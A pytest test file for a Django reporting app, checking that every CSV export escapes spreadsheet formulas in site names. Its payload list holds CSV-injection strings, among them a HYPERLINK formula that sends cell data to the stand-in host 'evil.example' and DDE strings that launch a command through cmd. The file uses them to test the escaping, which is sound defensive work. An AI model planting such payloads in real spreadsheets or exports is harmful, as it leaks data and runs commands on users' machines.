"""CSV exports neutralise formulas: a cell a spreadsheet would run (starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return) is written with a leading ``'``, so a
site named ``=HYPERLINK(...)`` opens as text. Numbers stay numbers: ``-0.5`` is a value,
not a formula, and is left alone.

Every CSV heatops serves: a site's month, any range of days, the portfolio's month, and
a published snapshot (whose CSV is ``presentation.csv_text`` of its figures, stored at
publishing: ``apps/reports/services.report_snapshot_publish``)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest
from django.urls import reverse

from apps.reports import presentation

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def dangerous_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [
        cell
        for row in rows[1:]
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)
    ]


@pytest.fixture
def admin_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("root", password="x"))
    return client


@pytest.mark.parametrize("name", FORMULAS)
def test_every_csv_export_neutralises_formulas_in_names(admin_client, influx, demo_sites, now, name):
    pool = demo_sites["pool"]
    pool.name = name
    pool.save()
    first = date(now.year, now.month, 1)
    last_month = (first - timedelta(days=1)).replace(day=1)
    month = f"{last_month:%Y-%m}"
    urls = [
        reverse("reports:site_month_csv", args=["pool", month]),
        reverse("reports:portfolio_csv", args=[month]),
        reverse("reports:site_range_csv", args=["pool"]) + f"?start={last_month}&end={first}",
    ]
    for url in urls:
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv")
        text = response.content.decode()
        assert dangerous_cells(text) == [], url
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert "'" + name.replace("\r", "") in cells, url  # kept, as text (a CR inside a cell dropped)
    snapshot_csv = presentation.csv_text([{"site": "pool", "site_name": name, "meter_check_diff": -0.5}])
    assert dangerous_cells(snapshot_csv) == []
